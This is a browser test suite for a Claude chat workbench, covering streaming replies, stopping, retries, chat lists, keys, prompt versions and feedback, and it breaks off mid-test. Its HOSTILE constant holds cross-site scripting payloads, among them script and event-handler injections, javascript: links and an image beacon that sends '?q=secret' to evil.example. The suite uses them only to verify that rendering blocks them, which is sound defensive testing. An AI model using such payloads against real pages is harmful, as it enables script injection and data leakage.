"""The chat page and the reference in a real browser, against the real server, whose upstream's pace the test decides."""

from __future__ import annotations

import asyncio
import json
import re
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from functools import partial
from typing import TYPE_CHECKING, Any

import pytest

from tests.faults.upstream import ScriptedUpstream, Usage, fault, reply, words
from tests.server.live import LiveServer
from workbench.claude import Claude
from workbench.ids import new_id
from workbench.store import tenants
from workbench.store.backend import Statement
from workbench.turns import DEFAULT_ID

if TYPE_CHECKING:
    from collections.abc import Callable, Coroutine, Iterator

    from playwright.sync_api import Browser, Locator, Page

SECONDS = 20
WIDE, PHONE, NARROWEST = (1200, 800), (390, 800), (320, 640)
PRICED = Usage(uncached_input_tokens=1000, output_tokens=50)  # at $2 and $10 per million: $0.0025
HOSTILE = """<script>window.__ran = 1</script>

<img src="https://evil.example/a.png" onerror="window.__ran = 2"> <svg onload="window.__ran = 3"></svg>

<style>body { display: none }</style> <link rel="stylesheet" href="https://evil.example/a.css">

<form action="https://evil.example/form"><input name="key"><button>Send</button></form>

<iframe srcdoc="<script>parent.__ran = 4</script>"></iframe> <base href="https://evil.example/">

[click](javascript:window.__ran=5) [data](data:text/html,<script>window.__ran=6</script>) [ok](https://evil.example/page)

![a picture](https://evil.example/beacon.png?q=secret) <a href="#x" onclick="window.__ran = 7">here</a>

```html
<script>window.__ran = 8</script>
```

The end.
"""

LINK = '<!doctype html><link rel="icon" href="data:,"><a href="{}/">The workbench</a>'


@pytest.fixture(scope="module")
def server(running: ScriptedUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("workbench.engine.Claude", partial(Claude, pause=0.01))  # retries wait less
        with LiveServer(tmp_path_factory.mktemp("page"), upstream=running.url) as server:
            yield server


@pytest.fixture
def open_page(browser: Browser, server: LiveServer) -> Iterator[Callable[..., Page]]:
    """Return a function that opens the page for a new user; at the end nothing may have gone wrong or elsewhere."""
    pages = []

    def open_page(
        path: str = "/", size: tuple[int, int] = WIDE, user: str | None = None, at: LiveServer = server, **options: Any
    ) -> Page:
        context = browser.new_context(viewport={"width": size[0], "height": size[1]}, **options)
        page = context.new_page()
        page.set_default_timeout(SECONDS * 1000)
        page.user = user or f"user-{new_id()}"
        page.failures = []
        page.elsewhere = []
        page.on("pageerror", lambda error: page.failures.append(str(error)))
        page.on("console", lambda said: _is_failure(said) and page.failures.append(said.text))
        context.on("request", lambda request: request.url.startswith(at.url) or page.elsewhere.append(request.url))
        if at is server:
            page.add_init_script(f"sessionStorage.setItem('workbench-identity', '{{\"user\": \"{page.user}\"}}')")
        page.goto(at.url + path)
        pages.append(page)
        return page

    yield open_page
    for page in pages:
        page.context.close()
        assert page.failures == []
        assert [address for address in page.elsewhere if not address.startswith(("data:", "blob:"))] == []


def _is_failure(said: Any) -> bool:
    # Chromium reports every status from 400 on as an error; those are what some tests are about
    return said.type in ("error", "warning") and not said.text.startswith("Failed to load resource")


def run(work: Coroutine[Any, Any, Any]) -> Any:
    """Run a coroutine in a thread: Playwright keeps a loop of its own running in this one."""
    with ThreadPoolExecutor(1) as thread:
        return thread.submit(asyncio.run, work).result()


def send(page: Page, text: str) -> None:
    page.locator(".wb-input").fill(text)
    page.locator(".wb-input").press("Enter")


def last_reply(page: Page, status: str) -> Locator:
    """Wait for a last reply of this status."""
    found = page.locator(f".wb-message[data-role=assistant][data-status={status}]").last
    found.wait_for()
    return found


def listed(page: Page) -> Locator:
    return page.locator(".pg-listed .pg-name")


def chat_of(page: Page) -> str:
    return str(page.evaluate("new URLSearchParams(location.hash.slice(1)).get('chat')"))


def who(page: Page) -> dict[str, str]:
    return {"x-user-id": page.user}


def ask(server: LiveServer, page: Page, *questions: str, **more: Any) -> list[str]:
    """Ask as the page's user, each in a new chat unless one is named; return the ids of the chats."""
    return [server.post("/chat", text, headers=who(page), **more).json()["chat_id"] for text in questions]


def ledger(server: LiveServer, chat_id: str) -> list[str]:
    """How the turns of a chat ended."""
    rows = server.client.get("/usage").json()
    return [row["status"] for row in rows if row["chat_id"] == chat_id]


def messages(server: LiveServer, page: Page) -> list[tuple[str, str]]:
    told = server.client.get(f"/chats/{chat_of(page)}", headers=who(page)).json()["messages"]
    return [(message["status"], message["content"]) for message in told]


def focused(page: Page) -> str:
    return str(page.evaluate("document.activeElement.className"))


# --- One chat ---------------------------------------------------------------------------------------------------


def test_a_reply_streams_and_ends_with_its_tokens_and_cost(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(reply("It is **four**, I think.", usage=PRICED, pause_after=3), reply("Yes.", usage=PRICED))
    page = open_page()
    send(page, "What is 2+2?")
    last_reply(page, "streaming").get_by_text("It is four,").wait_for()
    assert page.locator(".wb-stop").is_visible()
    upstream.release()
    done = last_reply(page, "complete")

    assert done.locator("strong").inner_text() == "four"
    assert (
        done.locator(".wb-footer").inner_text().startswith("claude-sonnet-5-5 · 1,000 in + 50 out tokens · $0.0025 · ")
    )
    assert page.locator("h1").inner_text() == "What is 2+2?"
    assert page.title() == "What is 2+2? – Claude workbench"
    send(page, "Sure?")
    page.locator(".wb-message[data-role=assistant][data-status=complete]").nth(1).wait_for()
    assert page.locator(".wb-cost").inner_text() == "$0.0050"
    page.locator(".pg-spent", has_text="$0.0050").wait_for()
    assert ledger(server, chat_of(page)) == ["complete", "complete"]


def test_stop_keeps_what_came_and_the_ledger_says_interrupted(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(reply("one two three", pause_after=2))
    page = open_page()
    send(page, "Count")
    last_reply(page, "streaming").get_by_text("one two").wait_for()
    page.keyboard.press("Escape")
    stopped = last_reply(page, "interrupted")
    upstream.wait_for(lambda u: u.disconnects, SECONDS)

    stopped.locator(".wb-footer", has_text="interrupted · claude-sonnet-5-5 · ").wait_for()
    assert stopped.locator(".wb-body").inner_text() == "one two"
    assert "$" in page.locator(".wb-cost").inner_text()
    assert messages(server, page) == [("complete", "Count"), ("interrupted", "one two")]
    assert ledger(server, chat_of(page)) == ["interrupted"]


def test_stop_works_from_the_moment_of_send_and_retry_goes_on_in_the_same_chat(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(fault("hang"), reply("Four."))
    page = open_page()
    send(page, "What is 2+2?")
    upstream.wait_for(lambda u: u.requests, SECONDS)
    page.locator(".wb-stop").click()  # the server has told nothing yet, not even which chat it is
    stopped = last_reply(page, "interrupted")
    stopped.locator(".wb-retry").click()
    last_reply(page, "complete").get_by_text("Four.").wait_for()

    assert page.locator(".wb-message").count() == 2
    assert len(server.client.get("/chats", headers=who(page)).json()["chats"]) == 1
    assert ledger(server, chat_of(page)) == ["interrupted", "complete"]


def test_what_is_stopped_before_it_was_sent_is_given_back(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_page()
    page.route("**/chat/stream", lambda route: None)  # under way for ever
    send(page, "What is 2+2?")
    page.locator(".wb-stop").click()
    page.locator(".wb-send").wait_for()

    assert page.locator(".wb-input").input_value() == "What is 2+2?"
    assert not page.locator(".wb-notice").is_visible()
    assert page.locator(".wb-message").count() == 0
    assert upstream.requests == []
    page.unroute_all(behavior="ignoreErrors")


def test_what_is_stopped_before_it_was_sent_is_no_older_chat_that_a_search_has_hidden(
    open_page: Callable[..., Page], server: LiveServer
) -> None:
    page = open_page()
    ask(server, page, "What is 2+2?")
    page.reload()
    listed(page).get_by_text("What is 2+2?").wait_for()
    page.locator(".pg-search").fill("bananas")
    page.get_by_text("No chat has that").wait_for()
    page.route("**/chat/stream", lambda route: None)  # under way for ever
    send(page, "What is 2+2?")
    page.locator(".wb-stop").click()
    page.locator(".wb-send").wait_for()

    assert page.locator(".wb-input").input_value() == "What is 2+2?"
    assert page.locator(".wb-message").count() == 0
    page.unroute_all(behavior="ignoreErrors")


def test_a_page_reloaded_in_mid_reply_shows_what_came_and_can_ask_again(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(reply("one two three", pause_after=2), reply("one two three."))
    page = open_page()
    send(page, "Count")
    last_reply(page, "streaming").get_by_text("one two").wait_for()
    chat_id = chat_of(page)
    page.reload()
    again = last_reply(page, "interrupted")
    assert again.locator(".wb-body").inner_text() == "one two"
    again.locator(".wb-retry").click()
    last_reply(page, "complete").get_by_text("one two three.").wait_for()

    assert chat_of(page) == chat_id
    assert ledger(server, chat_id) == ["interrupted", "complete"]


def test_a_reply_goes_on_while_another_chat_is_shown(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_page()
    ask(server, page, "an old one")
    page.reload()
    upstream.script(reply("one two three", pause_after=2))
    send(page, "Count")
    last_reply(page, "streaming").get_by_text("one two").wait_for()
    listed(page).get_by_text("an old one").click()
    page.locator("h1", has_text="an old one").wait_for()
    upstream.release()
    listed(page).get_by_text("Count").click()

    last_reply(page, "complete").get_by_text("one two three", exact=True).wait_for()


def test_a_reply_somebody_else_asked_for_appears(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(reply("one two three", pause_after=2))
    page = open_page()
    send(page, "Count")
    last_reply(page, "streaming").get_by_text("one two").wait_for()
    other = open_page(f"/#chat={chat_of(page)}", user=page.user)
    last_reply(other, "streaming")
    upstream.release()

    last_reply(other, "complete").get_by_text("one two three").wait_for()
    assert ledger(server, chat_of(page)) == ["complete"]


def test_a_long_chat_shows_its_end_and_the_rest_when_asked(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page()
    (chat_id,) = ask(server, page, "the first")
    sql = """INSERT INTO messages (id, chat_id, org_id, seq, role, content, blocks, status, created_at)
    SELECT $1 || i, $1, $2, i, CASE WHEN i % 2 = 1 THEN 'user' ELSE 'assistant' END, 'message ' || i, '[]', 'complete', $3
    FROM range(3, 101) made(i)"""
    backend = server.app.state.service.engine.store.backend
    run(backend.write([Statement(sql, (chat_id, DEFAULT_ID, datetime.now(UTC)))]))
    page.goto(f"{server.url}/#chat={chat_id}")
    page.get_by_text("message 100", exact=True).wait_for()
    assert page.locator(".wb-message").count() == 60
    earlier = page.get_by_role("button", name="Show 40 earlier messages")
    earlier.dispatch_event("click")  # a pointer scrolls there first, and that alone brings them
    for _ in range(10):
        page.locator(".wb-log").evaluate(
            "async (log) => { log.scrollTop = 0; await new Promise(requestAnimationFrame) }"
        )
    page.locator(".wb-message").first.get_by_text("the first").wait_for()

    assert page.locator(".wb-message").count() == 60
    assert not page.locator(".wb-earlier").is_visible()


def test_a_reply_is_copied_as_it_was_written(open_page: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.script(reply("It is **four**.\n\n- surely"))
    page = open_page(permissions=["clipboard-read", "clipboard-write"])
    send(page, "What is 2+2?")
    last_reply(page, "complete").get_by_role("button", name="Copy").click()
    page.get_by_role("button", name="Copied").wait_for()

    assert page.evaluate("navigator.clipboard.readText()") == "It is **four**.\n\n- surely"


# --- What goes wrong --------------------------------------------------------------------------------------------


def test_formulas_are_drawn(open_page: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.script(reply("It is $x^2$, for $5."))
    page = open_page()
    send(page, "formula")
    page.locator(".wb-math msup").wait_for()

    assert last_reply(page, "complete").locator(".wb-math").count() == 1


def test_a_chat_that_is_opened_again_ends_at_its_end_with_its_formulas(
    open_page: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    upstream.script(reply("Text\n\n" * 40 + "$$\n\\frac{\\frac{a}{b}}{\\frac{c}{d}}\n$$\n\n" * 3))
    page = open_page()
    send(page, "formula")
    last_reply(page, "complete")
    page.reload()
    page.locator(".wb-math").nth(2).wait_for()

    left = "(e => e.scrollHeight - e.scrollTop - e.clientHeight)(document.querySelector('.wb-log'))"
    assert page.evaluate(left) < 1


def test_an_overloaded_upstream_is_said_and_asked_again_in_the_same_chat(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(fault("529"), fault("529"), fault("529"), reply("Four."))
    page = open_page()
    send(page, "What is 2+2?")
    failed = last_reply(page, "failed")
    assert failed.locator(".wb-state span").inner_text() == "Stream failed Claude is overloaded"
    chat_id = chat_of(page)
    failed.locator(".wb-retry").click()
    last_reply(page, "complete").get_by_text("Four.").wait_for()

    assert chat_of(page) == chat_id
    assert ledger(server, chat_id) == ["failed", "complete"]
    assert len(server.client.get("/chats", headers=who(page)).json()["chats"]) == 1


def test_a_reply_that_breaks_off_keeps_what_came(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    upstream.script(fault("cut", "one two three", after=2))
    page = open_page()
    send(page, "Count")
    failed = last_reply(page, "failed")

    assert failed.locator(".wb-body").inner_text() == "one two"
    assert failed.locator(".wb-retry").is_visible()
    failed.locator(".wb-footer", has_text="failed · claude-sonnet-5-5 · ").wait_for()


def test_a_refused_question_is_given_back_and_can_be_sent_when_it_is_time(
    open_page: Callable[..., Page], running: ScriptedUpstream, upstream: ScriptedUpstream, tmp_path: Any
) -> None:
    # the second question comes within 5 s, on a busy machine too
    limits = {"WORKBENCH_RATE_PER_MINUTE": "12", "WORKBENCH_RATE_BURST": "1"}
    with LiveServer(tmp_path, upstream=running.url, **limits) as slow:
        page = open_page(at=slow)
        send(page, "one")
        last_reply(page, "complete")
        send(page, "two")
        notice = page.locator(".wb-notice")
        notice.get_by_text("Rate Limited").wait_for()
        assert "is over its rate limit; retry in" in notice.inner_text()
        assert page.locator(".wb-input").input_value() == "two"
        notice.get_by_role("button", name="Try again").click()  # waits until it may be pressed
        page.locator(".wb-message[data-role=assistant][data-status=complete]").nth(1).wait_for()

        assert page.locator(".wb-input").input_value() == ""
        assert not notice.is_visible()


def test_a_server_that_is_gone_is_said_and_nothing_typed_is_lost(
    open_page: Callable[..., Page], running: ScriptedUpstream, tmp_path: Any
) -> None:
    with LiveServer(tmp_path, upstream=running.url) as gone:
        page = open_page(at=gone)
        page.locator(".pg-said", has_text="listed here").wait_for()
    send(page, "anybody?")
    page.locator(".wb-notice").get_by_text("Not connected").wait_for()

    assert page.locator(".wb-input").input_value() == "anybody?"
    assert page.locator(".wb-message").count() == 0


def test_a_server_that_is_back_is_noticed(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_page()
    send(page, "hi")
    last_reply(page, "complete")
    page.context.set_offline(True)
    send(page, "anybody?")
    page.locator(".wb-notice").get_by_text("Not connected").wait_for()
    page.context.set_offline(False)
    page.evaluate("dispatchEvent(new Event('focus'))")
    page.locator(".wb-notice").wait_for(state="hidden")
    page.locator(".wb-send").click()
    page.locator(".wb-message[data-role=assistant][data-status=complete]").nth(1).wait_for()

    assert ledger(server, chat_of(page)) == ["complete", "complete"]


def test_an_address_of_no_chat_says_so(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page()
    (chat_id,) = ask(server, page, "mine")
    for id in (chat_id, "nothing"):
        asked: list[str] = []
        other = open_page()
        other.clock.install()
        other.on("request", lambda request, asked=asked: asked.append(request.url))
        other.evaluate(f"location.hash = 'chat={id}'")
        other.locator(".wb-notice").get_by_text("It was deleted, or belongs to somebody else.").wait_for()
        other.clock.run_for(60_000)  # the view asks again for what it was not told

        assert other.locator(".wb-message").count() == 0
        assert [address for address in asked if "/chats/" in address] == [f"{server.url}/chats/{id}"]


def test_what_is_left_of_a_budget_is_told(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_page()
    limits = {"budget_usd": "1.5", "budget_period": "month"}
    run(
        tenants.add_user(
            server.app.state.service.engine.store.backend, DEFAULT_ID, page.user, datetime.now(UTC), limits
        )
    )
    send(page, "hi")
    last_reply(page, "complete")

    assert page.locator(".wb-budget").inner_text() in ("$1.46 left", "$1.45 left", "$1.44 left")


def test_hostile_text_runs_nothing_and_loads_nothing(
    open_page: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    upstream.script(reply([*HOSTILE]))  # character by character
    page = open_page()
    page.evaluate(
        "window.__violations = []; addEventListener('securitypolicyviolation', e => __violations.push(e.blockedURI))"
    )
    send(page, HOSTILE)
    done = last_reply(page, "complete")
    done.get_by_text("The end.").wait_for()
    assert page.evaluate("[window.__ran ?? null, window.__violations]") == [None, []]
    page.reload()
    done = last_reply(page, "complete")
    done.get_by_text("The end.").wait_for()

    assert page.evaluate("window.__ran ?? null") is None
    unwanted = "script, style, link, img, svg:not(.wb-icon), form, input, iframe, base, [onclick], [style]"
    assert done.locator(unwanted).count() == done.locator(".wb-body svg").count() == 0
    links = done.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel, link.target])")
    assert {address for address, _, _ in links} == {
        "https://evil.example/page",
        "https://evil.example/beacon.png?q=secret",
    }
    assert {(rel, target) for _, rel, target in links} == {("noopener noreferrer", "_blank")}


# --- The list ---------------------------------------------------------------------------------------------------


def test_chats_are_listed_searched_opened_and_deleted(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_page()
    upstream.script(reply("Birds are dinosaurs."), reply("Blue light scatters."))
    _, sky = ask(server, page, "What is an ostrich?", "Why is the sky blue?")
    page.reload()
    listed(page).nth(1).wait_for()
    assert listed(page).all_inner_texts() == ["Why is the sky blue?", "What is an ostrich?"]

    page.get_by_role("searchbox").fill("DINOSAURS")
    page.locator(".pg-said", has_text="1 found").wait_for()
    listed(page).get_by_text("What is an ostrich?").click()
    page.get_by_text("Birds are dinosaurs.").wait_for()
    page.get_by_role("searchbox").fill("no such word")
    page.locator(".pg-said", has_text="No chat has that").wait_for()
    page.get_by_role("searchbox").fill("")
    listed(page).nth(1).wait_for()

    page.locator(f"li[data-id='{sky}']").hover()
    page.get_by_role("button", name="Delete Why is the sky blue?").click()
    dialog = page.get_by_role("alertdialog")
    dialog.get_by_role("button", name="Cancel").click()
    assert listed(page).count() == 2
    page.locator(f"li[data-id='{sky}']").hover()
    page.get_by_role("button", name="Delete Why is the sky blue?").click()
    dialog.get_by_role("button", name="Delete").click()
    dialog.wait_for(state="hidden")

    assert listed(page).all_inner_texts() == ["What is an ostrich?"]
    assert server.client.get(f"/chats/{sky}", headers=who(page)).status_code == 404
    assert page.locator("h1").inner_text() == "What is an ostrich?"


def test_deleting_the_chat_that_is_shown_begins_a_new_one(open_page: Callable[..., Page]) -> None:
    page = open_page()
    send(page, "forget this")
    last_reply(page, "complete")
    page.locator(".pg-listed li").hover()
    page.get_by_role("button", name="Delete forget this").click()
    page.get_by_role("alertdialog").get_by_role("button", name="Delete").click()
    page.locator(".wb-empty").wait_for()

    assert "#" not in page.url
    assert page.locator(".wb-message").count() == 0
    page.locator(".pg-said", has_text="listed here").wait_for()


def test_a_chat_in_which_a_reply_is_written_is_not_deleted(
    open_page: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    upstream.script(reply("one two", pause_after=1))
    page = open_page()
    send(page, "Count")
    last_reply(page, "streaming").get_by_text("one").wait_for()
    page.locator(".pg-listed li").hover()
    page.get_by_role("button", name="Delete Count").click()
    dialog = page.get_by_role("alertdialog")
    dialog.get_by_role("button", name="Delete").click()
    dialog.get_by_text("is still running and has to be billed; stop it, or wait").wait_for()
    dialog.get_by_role("button", name="Cancel").click()
    upstream.release()

    last_reply(page, "complete").get_by_text("one two").wait_for()


def test_more_chats_come_page_by_page_each_once(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page()
    sql = "INSERT INTO chats (id, org_id, user_id, title, created_at, updated_at) VALUES ($1, $2, $3, $4, $5, $5)"
    at = datetime.now(UTC) - timedelta(days=60)
    rows = [(new_id(), DEFAULT_ID, page.user, f"chat {n}", at + timedelta(days=n // 2)) for n in range(70)]
    run(server.app.state.service.engine.store.backend.write([Statement(sql, row) for row in rows]))
    page.reload()
    for count in (30, 60):
        listed(page).nth(count - 1).wait_for()
        assert listed(page).count() == count
        page.get_by_role("button", name="Show more").click()
    listed(page).nth(69).wait_for()

    assert sorted(listed(page).all_inner_texts()) == sorted(f"chat {n}" for n in range(70))
    assert not page.get_by_role("button", name="Show more").is_visible()
    assert focused(page) != "pg-scroll"
    assert page.locator(".pg-listed h2").all_inner_texts() == ["Previous 30 days", "Older"]


def test_back_and_new_chat_lead_where_one_was(open_page: Callable[..., Page]) -> None:
    page = open_page()
    send(page, "first")
    last_reply(page, "complete")
    page.get_by_role("button", name="New chat").click()
    page.locator(".wb-empty").wait_for()
    send(page, "second")
    last_reply(page, "complete")
    listed(page).get_by_text("first").click()
    page.locator("h1", has_text="first").wait_for()
    page.go_back()
    page.locator("h1", has_text="second").wait_for()

    listed(page).nth(1).wait_for()
    assert listed(page).count() == 2


# --- Who asks ---------------------------------------------------------------------------------------------------


def test_a_key_is_asked_for_tried_and_kept_in_this_tab_only(
    open_page: Callable[..., Page], running: ScriptedUpstream, upstream: ScriptedUpstream, tmp_path: Any
) -> None:
    with LiveServer(tmp_path, upstream=running.url, WORKBENCH_AUTH="keys") as locked:
        backend, now = locked.app.state.service.engine.store.backend, datetime.now(UTC)
        run(tenants.add_org(backend, "acme", now, {}))
        key = run(tenants.create_key(backend, "acme", now)).text
        page = open_page(at=locked)
        dialog = page.get_by_role("dialog")
        dialog.get_by_label("Key").fill("wb_wrong")
        dialog.get_by_role("button", name="Use", exact=True).click()
        dialog.get_by_text("Unauthorized: the key is mistyped or cut off; send it as it was printed").wait_for()
        dialog.get_by_label("Key").fill(key)
        dialog.get_by_label("Key").press("Enter")
        dialog.wait_for(state="hidden")
        send(page, "hi")
        last_reply(page, "complete")
        page.reload()
        last_reply(page, "complete")

        assert key not in page.url + page.content()
        assert key in page.evaluate("JSON.stringify(sessionStorage)")
        assert page.evaluate("JSON.stringify([localStorage, document.cookie])") == '[{},""]'
        other = open_page(f"/#chat={chat_of(page)}", at=locked)
        other.get_by_role("textbox", name="Key").fill(key)
        other.get_by_role("textbox", name="Key").press("Enter")
        last_reply(other, "complete")  # whoever has no key yet comes to the chat all the same
        (sent,) = [r["user_id"] for r in locked.client.get("/usage", headers={"authorization": f"Bearer {key}"}).json()]
        assert sent


def test_a_link_on_another_site_leads_to_the_page_which_works(
    open_page: Callable[..., Page], server: LiveServer
) -> None:
    page = open_page()
    link = LINK.format(server.url)
    page.route("http://other.example/", lambda route: route.fulfill(body=link, content_type="text/html"))
    page.goto("http://other.example/")
    page.elsewhere.clear()
    browsers_own, sent = page.context.new_cdp_session(page), []
    browsers_own.send("Network.enable")
    browsers_own.on("Network.requestWillBeSentExtraInfo", lambda event: sent.append(event["headers"]))
    page.get_by_text("The workbench").click()
    send(page, "hi")
    last_reply(page, "complete")

    assert [each["Sec-Fetch-Site"] for each in sent if each.get("Sec-Fetch-Mode") == "navigate"] == ["cross-site"]


def test_another_user_has_other_chats(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page()
    ask(server, page, "of the first user")
    page.reload()
    listed(page).get_by_text("of the first user").click()
    page.locator(".wb-message").first.wait_for()
    page.locator(".pg-below button").click()
    page.get_by_label("User", exact=True).fill("user two")
    page.get_by_role("button", name="Use", exact=True).click()
    assert page.get_by_role("dialog").is_visible()  # no name of a user
    other = f"two-{new_id()}"
    page.get_by_label("User", exact=True).fill(other)
    page.get_by_role("button", name="Use", exact=True).click()
    page.locator(".pg-said", has_text="listed here").wait_for()

    assert page.locator(".wb-message").count() == 0
    send(page, "hi")
    last_reply(page, "complete")
    (chat,) = server.client.get("/chats", headers={"x-user-id": other}).json()["chats"]
    assert chat["chat_id"] == chat_of(page)


# --- Prompts ----------------------------------------------------------------------------------------------------


def open_for_an_org(open_page: Callable[..., Page], server: LiveServer, *texts: str, **more: Any) -> Page:
    """Open the page for an org of its own whose prompt `support` has these versions."""
    page = open_page(**more)
    page.org = f"org-{new_id()}"
    kept = json.dumps(json.dumps({"org": page.org, "user": page.user}))
    page.add_init_script(f"sessionStorage.setItem('workbench-identity', {kept})")
    for text in texts:
        assert server.client.post("/prompts/support", json={"text": text}, headers=of(page)).status_code == 201
    page.reload()
    page.locator(".wb-empty").wait_for()
    return page


def of(page: Page) -> dict[str, str]:
    return {"x-org-id": page.org, "x-user-id": page.user}


def pick(page: Page) -> Locator:
    """Open the picker of a new chat."""
    page.locator(".pg-prompt button").click()
    dialog = page.get_by_role("dialog", name="Prompt")
    dialog.get_by_role("combobox", name="Prompt").wait_for()
    return dialog


def options(select: Locator) -> list[str]:
    return select.locator("option").all_inner_texts()


def test_a_new_chat_is_given_a_prompt_whose_text_is_shown_before(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_for_an_org(open_page, server, "You help {{customer}} with {{product}}.", "Be brief, {{customer}}.")
    server.client.put("/prompts/support/labels/staging", json={"version": 2}, headers=of(page))
    dialog = pick(page)
    dialog.get_by_role("combobox", name="Prompt").select_option("support")
    dialog.get_by_text("You help {{customer}} with {{product}}.").wait_for()
    asked = len(upstream.requests)
    versions = options(dialog.get_by_role("combobox", name="Version"))
    dialog.get_by_role("button", name="Use for this chat").click()
    missing = [dialog.get_by_role("alert").filter(has_text="Fill in").inner_text()]
    dialog.get_by_role("textbox", name="customer").fill("Ada")
    dialog.get_by_role("textbox", name="customer").press("Enter")
    missing.append(dialog.get_by_role("alert").filter(has_text="Fill in").inner_text())
    dialog.get_by_role("textbox", name="product").fill("{{tea}}")
    dialog.get_by_text("You help Ada with {{tea}}.").wait_for()
    dialog.get_by_role("textbox", name="product").press("Enter")
    dialog.wait_for(state="hidden")
    chosen = page.locator(".wb-prompt").inner_text()
    send(page, "hi")
    last_reply(page, "complete")

    assert versions == ["production – version 1", "staging – version 2", "latest – version 2", "version 2", "version 1"]
    assert missing == ["Fill in customer and product.", "Fill in product."]
    assert (asked, chosen) == (len(upstream.requests) - 1, "support@production")
    assert upstream.last.body["system"] == "You help Ada with {{tea}}."
    assert page.locator(".wb-prompt").inner_text() == "support@1"
    assert page.locator(".pg-prompt").is_hidden()
    page.reload()
    page.locator(".wb-prompt", has_text="support@1").wait_for()


def test_a_chat_changes_to_another_version_from_the_next_turn_on(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_for_an_org(open_page, server, "You help {{customer}}.", "You help {{customer}}. Be brief.")
    asked = {"prompt": "support", "variables": {"customer": "Ada"}}
    chat_id = server.post("/chat", "one", headers=of(page), **asked).json()["chat_id"]
    page.goto(f"{server.url}/#chat={chat_id}")
    page.locator(".wb-prompt").click()
    dialog = page.get_by_role("dialog", name="Prompt")
    dialog.get_by_text("You help Ada.", exact=True).wait_for()
    dialog.get_by_role("combobox", name="Version").select_option("latest")
    dialog.get_by_text("You help Ada. Be brief.").wait_for()
    dialog.get_by_role("button", name="Use from the next turn on").click()
    page.locator(".wb-prompt", has_text="support@1 → support@2").wait_for()
    send(page, "two")
    page.locator(".wb-prompt", has_text=re.compile("^support@2$")).wait_for()
    complete = page.locator(".wb-message[data-status=complete][data-role=assistant]")
    complete.nth(1).wait_for()
    send(page, "three")
    complete.nth(2).wait_for()

    assert [request.body["system"] for request in upstream.requests[-3:]] == [
        "You help Ada.",
        "You help Ada. Be brief.",
        "You help Ada. Be brief.",
    ]


def test_that_an_experiment_may_give_another_version_is_said(
    open_page: Callable[..., Page], server: LiveServer
) -> None:
    page = open_for_an_org(open_page, server, "You help.", "You help. Be brief.")
    body = {"prompt": "support", "arms": {"v1": 1, "v2": 1}}
    assert server.client.post("/experiments/tone", json=body, headers=of(page)).status_code == 201
    dialog = pick(page)
    dialog.get_by_role("combobox", name="Prompt").select_option("support")
    dialog.get_by_text("support@1 · the experiment tone may give this chat v1 or v2").wait_for()
    dialog.get_by_role("combobox", name="Version").select_option("2")

    dialog.get_by_text("support@2", exact=True).wait_for()


def test_a_prompt_that_is_gone_by_then_is_said_and_the_question_given_back(
    open_page: Callable[..., Page], server: LiveServer
) -> None:
    page = open_for_an_org(open_page, server, "You help.")
    dialog = pick(page)
    dialog.get_by_role("combobox", name="Prompt").select_option("support")
    dialog.get_by_text("You help.").wait_for()
    dialog.get_by_role("button", name="Use for this chat").click()
    server.client.post("/prompts/support", json={"text": "You help {{customer}}."}, headers=of(page))
    server.client.put("/prompts/support/labels/production", json={"version": 2}, headers=of(page))
    send(page, "hi")
    page.locator(".wb-notice", has_text="is missing 'customer'").wait_for()

    assert page.locator(".wb-input").input_value() == "hi"
    pick(page).get_by_role("combobox", name="Prompt").select_option("")
    page.get_by_role("button", name="Use for this chat").click()
    page.locator(".wb-prompt").wait_for(state="hidden")
    page.locator(".wb-send").click()
    last_reply(page, "complete")


def test_without_prompts_there_is_no_picker(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_for_an_org(open_page, server)
    with page.expect_response("**/prompts?*"):
        page.reload()
    page.locator(".pg-said", has_text="listed here").wait_for()

    assert [shown for shown in page.get_by_text("Prompt").all() if shown.is_visible()] == []


# --- Thumbs -----------------------------------------------------------------------------------------------------


def thumbs(page: Page) -> list[tuple[str | None, str | None]]:
    up, down = (page.get_by_role("button", name=f"{name} reply").all() for name in ("Good", "Bad"))
    return [tuple(thumb.get_attribute("aria-pressed") for thumb in pair) for pair in zip(up, down, strict=True)]


def feedback(server: LiveServer, page: Page) -> list[tuple[Any, ...]]:
    """What was kept of the chat that is shown, the oldest first."""
    sql = "SELECT score, comment FROM feedback WHERE chat_id = $1 ORDER BY created_at"
    return run(server.app.state.service.engine.store.backend.rows(sql, chat_of(page)))


def test_thumbs_are_kept_the_newest_counts_and_other_views_have_them(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream
) -> None:
    page = open_page()
    for question in ("one", "two"):
